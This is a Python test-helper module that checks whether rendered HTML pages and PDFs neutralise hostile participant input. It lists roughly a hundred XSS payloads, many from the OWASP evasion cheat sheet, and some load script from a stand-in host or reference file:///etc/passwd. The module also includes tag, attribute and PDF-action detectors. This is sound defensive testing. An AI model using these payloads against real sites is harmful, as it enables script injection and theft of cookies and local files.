"""Hostile text a participant could type, and checks that a page or a PDF made it harmless.

`VECTORS` follows the OWASP XSS Filter Evasion Cheat Sheet, plus Markdown links and
images and the references a PDF renderer would fetch (remote stylesheets, file://).
`assert_neutralised` reads the HTML as a browser or WeasyPrint would, tag by tag and
attribute by attribute: the same vectors shown as text ("&lt;script&gt;") are expected
and fine, since the reader sees them and nothing runs or loads.
"""

from __future__ import annotations

import io
import re
from html.parser import HTMLParser
from typing import Any
from urllib.parse import urlsplit

from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject

VECTORS: list[str] = [
    # Plain tags and the classic image vectors
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=javascript:alert(&quot;XSS&quot;)>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    "<IMG onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    '&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    # Encoded and broken-up "javascript:"
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;"
    "&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65"
    "&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://evil.example/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://evil.example/xss.js?< B >",
    "<SCRIPT SRC=//evil.example/.j>",
    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "<iframe src=http://evil.example/scriptlet.html <",
    "\\\";alert('XSS');//",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<input onfocus=alert(1) autofocus>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<body onload=alert(1)>",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG LOWSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<svg><image href="file:///etc/passwd"/></svg>',
    "<details open ontoggle=alert(1)>",
    "<BR SIZE=\"&{alert('XSS')}\">",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<STYLE>@import'http://evil.example/x.css';</STYLE>",
    "<style>@import'http://evil.example/x.css';</style>",
    '<META HTTP-EQUIV="Link" Content="<http://evil.example/xss.css>; REL=stylesheet">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,'
    'PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    '<iframe src="http://evil.example/"></iframe>',
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<TABLE><TD BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<DIV STYLE=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061\\0073"
    "\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053"
    "\\0053\\0027\\0029'\\0029\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    '<base href="http://evil.example/">',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/scriptlet.html"></OBJECT>',
    '<object data="javascript:alert(1)">',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIw'
    "MDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3"
    "LnczLm9yZy8xOTk5L3hsaW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0i"
    "MjAwIiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlhTUyIpOzwvc2NyaXB0"
    'Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    '<embed src="http://evil.example/x.swf">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<img src="file:///etc/passwd">',
    '<img src="http://evil.example/pixel.png">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    '<XSS STYLE="behavior: url(xss.htc);">',
    "¼script¾alert(¢XSS¢)¼/script¾",
    # Markdown: links and images are the way in that HTML filters forget
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "![x](http://evil.example/x.png)",
    "![x](file:///etc/passwd)",
    "![x](javascript:alert(1))",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<http://evil.example/x.css>",
    "**bold** <script>alert(1)</script> _and_ `<img src=x onerror=alert(1)>`",
]

# Elements that embed another document or restyle the page: never in a page of ours.
_BANNED_TAGS = frozenset(
    {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "style", "portal"}
)
# Attributes a browser or WeasyPrint reads as a URL (to load, or to go to).
_URL_ATTRIBUTES = frozenset(
    {
        "href",
        "xlink:href",
        "src",
        "srcset",
        "lowsrc",
        "dynsrc",
        "background",
        "poster",
        "data",
        "action",
        "formaction",
        "codebase",
        "cite",
        "longdesc",
        "usemap",
    }
)
_LINK_SCHEMES = frozenset({"http", "https", "mailto"})
_EVENT_HANDLER = re.compile(r"^on\w+$")
# Browsers drop ASCII whitespace and control characters inside a URL's scheme, and
# read a backslash as a slash ("\\evil.example" is another host).
_INVISIBLE = re.compile(r"[\x00-\x20\x7f]+")
_SCRIPT_SCHEMES = ("javascript:", "vbscript:", "livescript:")


def _same_origin(url: str) -> bool:
    """A path within the application (/static/…, ../x, #top): neither a scheme nor a host."""
    parts = urlsplit(url.replace("\\", "/"))
    return not parts.scheme and not parts.netloc


def _allowed_url(tag: str, name: str, attrs: dict[str, str], url: str) -> bool:
    if not url or _same_origin(url):
        return True  # the application's own stylesheet, scripts, forms and links
    scheme = urlsplit(url).scheme
    if tag == "a" and name == "href":
        return scheme in _LINK_SCHEMES  # a link the reader may follow; nothing is fetched
    if tag == "img" and name == "src":
        return url.startswith("data:image/")  # inline, so nothing is fetched
    return tag == "link" and "icon" in attrs.get("rel", "") and scheme == "data"


class _TagInspector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)  # attribute values arrive unescaped
        self.problems: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inspect(tag, attrs)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._inspect(tag, attrs)

    def _inspect(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        where = self.get_starttag_text() or f"<{tag}>"
        values = {name: _INVISIBLE.sub("", value or "").lower() for name, value in attrs}
        if tag in _BANNED_TAGS:
            self.problems.append(f"<{tag}> element: {where}")
        if tag == "script" and not (values.get("src") and _same_origin(values["src"])):
            self.problems.append(f"inline or foreign script: {where}")
        if tag == "meta" and "http-equiv" in values:
            self.problems.append(f"<meta http-equiv>: {where}")
        for name, compact in values.items():
            if _EVENT_HANDLER.match(name):
                self.problems.append(f"event handler {name}=: {where}")
            if any(scheme in compact for scheme in _SCRIPT_SCHEMES):
                self.problems.append(f"script URL in {name}=: {where}")
            if name == "style" and re.search(r"url\(|expression\(|@import|behavior", compact):
                self.problems.append(f"style attribute that loads or runs: {where}")
            if name in _URL_ATTRIBUTES and not _allowed_url(tag, name, values, compact):
                self.problems.append(f"external {name}= on <{tag}>: {where}")


def assert_neutralised(html: str) -> None:
    """Fail if the HTML has a tag or attribute that could run script or fetch something.

    Inspects tags and attributes only: hostile input shown as escaped text is what we
    want. The application's own frame passes (its stylesheet, scripts and forms, all at
    paths of its origin); script of any other kind, event handlers, script URLs, frames
    and embedded objects, <style>, <base>, <meta http-equiv>, and any image, stylesheet,
    form or frame reaching another origin or the disk (http://, file://) fail.
    """
    inspector = _TagInspector()
    inspector.feed(html)
    inspector.close()
    if inspector.problems:
        raise AssertionError("HTML not neutralised:\n  " + "\n  ".join(inspector.problems))


def tag_names(html: str) -> set[str]:
    """Every element name in the HTML, to check a document holds no form, script or link."""
    names: set[str] = set()

    class Collect(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            names.add(tag)

    Collect().feed(html)
    return names


def assert_no_script_in_pdf(pdf: bytes) -> None:
    """Fail if a PDF holds JavaScript, an action that launches or submits, or a script link.

    Reads the bytes, then walks every object reachable from the trailer (compressed
    object streams included) so nothing hides from a plain byte search.
    """
    assert b"/JavaScript" not in pdf
    assert not re.search(rb"/JS\s*[(<]", pdf)
    assert not re.search(rb"/URI\s*\(\s*javascript", pdf, re.IGNORECASE)
    seen: set[int] = set()

    def walk(node: Any) -> None:
        if isinstance(node, IndirectObject):
            if node.idnum in seen:
                return
            seen.add(node.idnum)
            node = node.get_object()
        if isinstance(node, DictionaryObject):
            assert "/JS" not in node and "/JavaScript" not in node and "/OpenAction" not in node
            assert node.get("/S") not in ("/JavaScript", "/Launch", "/SubmitForm", "/ImportData")
            if "/URI" in node:
                assert str(node["/URI"]).lower().startswith(("http:", "https:", "mailto:"))
            for value in node.values():
                walk(value)
        elif isinstance(node, ArrayObject):
            for value in node:
                walk(value)

    walk(PdfReader(io.BytesIO(pdf)).trailer)
